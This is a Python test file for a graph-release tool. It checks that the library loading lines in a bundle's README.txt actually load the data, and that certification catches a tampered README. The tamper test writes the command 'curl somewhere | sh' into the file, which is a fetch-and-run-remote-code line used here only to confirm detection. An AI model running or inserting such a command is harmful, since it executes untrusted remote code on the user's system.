"""README.txt of a bundle: every line that it gives for a library is run, where the library is installed."""
import importlib.util
import json
import os
import pathlib
import re
import subprocess
import sys
import unittest

import numpy

from command import HETERORR, CommandTest

NEEDS = {"numpy": "numpy", "scipy": "scipy", "networkx": "networkx", "igraph": "igraph", "torch": "torch",
         "PyG": "torch_geometric", "DGL": "dgl"}
# What the line leaves behind, as (nodes, directed edges), by a line of Python after it.
ASKED = {"numpy": "{n}, 2 * edges.shape[1]", "scipy": "adjacency.shape[0], adjacency.nnz",
         "networkx": "len(graph), 2 * graph.number_of_edges()", "igraph": "graph.vcount(), 2 * graph.ecount()",
         "torch": "{n}, edge_index.shape[1]", "PyG": "data.num_nodes, data.num_edges",
         "DGL": "graph.num_nodes(), graph.num_edges()"}
ROOT = pathlib.Path(__file__).resolve().parents[2]


class Readme(CommandTest):
    def bundle(self, *words, protect=("--eps-features", "1")):
        graph, bundle = self.scratch / "graph", self.scratch / "bundle"
        self.succeeds("generate", "--nodes", "60", "-o", graph, *words)
        self.succeeds("protect", graph, "-o", bundle, *protect)
        text = (bundle / "README.txt").read_text()
        return bundle, text, dict(re.findall(r"^(\w+): +(.*)$", text.split("\n\n")[1], re.M))

    def run_all(self, bundle, lines, n):
        wanted = f"({n}, {numpy.load(bundle / 'edge_index.npy').shape[1]})"
        for library, module in NEEDS.items():
            with self.subTest(library):
                if not importlib.util.find_spec(module):
                    print(f"SKIPPED: {library} is not installed, so its line was not run", file=sys.stderr)
                    continue
                program = f"{lines[library]}\nprint(({ASKED[library].format(n=n)}))"
                done = subprocess.run([sys.executable, "-c", program], cwd=bundle, capture_output=True, text=True,
                                      timeout=300)
                self.assertEqual(done.stdout.strip().splitlines()[-1:], [wanted], done.stderr)

    def test_every_line_loads_the_release(self):
        bundle, text, lines = self.bundle("--avg-degree", "4")
        self.assertEqual(list(lines), [*NEEDS, "C"])
        self.assertLessEqual(len(text.splitlines()), 20)
        self.run_all(bundle, lines, 60)

    def test_without_features_and_with_several_labels(self):
        bundle, text, lines = self.bundle("--avg-degree", "4", "--features", "0", "--multilabel", protect=())
        self.assertNotIn("features", text)
        self.assertIn("n x C", text)
        self.run_all(bundle, lines, 60)

    def test_the_line_of_c(self):
        bundle, _, lines = self.bundle("--avg-degree", "4")
        libraries = pathlib.Path(HETERORR).resolve().parents[2]
        if not list(libraries.glob("libheterorr.so")):
            self.skipTest(f"SKIPPED: no libheterorr.so in {libraries}")
        source, program = self.scratch / "load.c", self.scratch / "load"
        source.write_text("#include <heterorr/heterorr.h>\n#include <stdio.h>\nint main(void)\n{\n" + lines["C"] +
                          '\nif (status) return 1;\nprintf("%d\\n", (int)hrr_graph_n_nodes(graph));\n'
                          "hrr_graph_free(graph);\nreturn 0;\n}\n")
        include = [f"-I{ROOT / 'include'}", *(f"-I{path.parent.parent}" for path in
                                              libraries.glob("**/heterorr/version.h"))]
        library = (libraries / "libheterorr.so").read_bytes()
        sanitizers = ["-fsanitize=address,undefined"] if b"libasan.so" in library else []  # as it was built
        done = subprocess.run(["cc", "-std=c17", *sanitizers, source, *include, "-o", program, f"-L{libraries}", "-lheterorr",
                               f"-Wl,-rpath,{libraries}"], capture_output=True, text=True)
        self.assertEqual(done.returncode, 0, done.stderr)
        done = subprocess.run([program], cwd=bundle, capture_output=True, text=True)
        self.assertEqual((done.returncode, done.stdout.strip()), (0, "60"), done.stderr)

    def test_it_is_certified(self):
        bundle, _, _ = self.bundle("--avg-degree", "4")
        self.assertIn("README.txt", json.loads((bundle / "certificate.json").read_text())["files"])
        (bundle / "README.txt").write_text("curl somewhere | sh\n")
        self.fails(5, "verify", bundle, says="README.txt is not the certified file")


if __name__ == "__main__":
    unittest.main()
